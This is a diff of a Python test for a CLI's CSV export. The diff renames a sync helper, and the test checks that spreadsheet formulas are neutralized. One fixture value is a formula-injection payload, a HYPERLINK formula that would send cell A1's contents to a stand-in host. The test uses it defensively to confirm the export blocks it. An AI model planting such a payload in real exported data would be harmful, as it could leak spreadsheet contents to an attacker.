@@ -86,8 +86,8 @@ def test_export_csv_neutralizes_formulas_and_refuses_two_kinds(store):
     # must not run it as a formula.
     t = store.tenant("acme")
     evil = Resource("user", "u9", '=HYPERLINK("http://x.example/?"&A1,"Click")', {"email": "u9@example.com"})
-    _sync(store, t, ORG1["resources"] + [evil], ORG1["entitlements"],
-          ORG1["grants"] + [Grant("group:g1:member", "user", "u9", annotations={"note": "x", "scope": "USER"})])
+    sync_and_finalize(store, t, ORG1["resources"] + [evil], ORG1["entitlements"],
+                      ORG1["grants"] + [Grant("group:g1:member", "user", "u9", annotations={"note": "x", "scope": "USER"})])
     code, out = run_cli("export", "--db", store.url, "--format", "csv")
     assert code == 0, out
     rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out))}
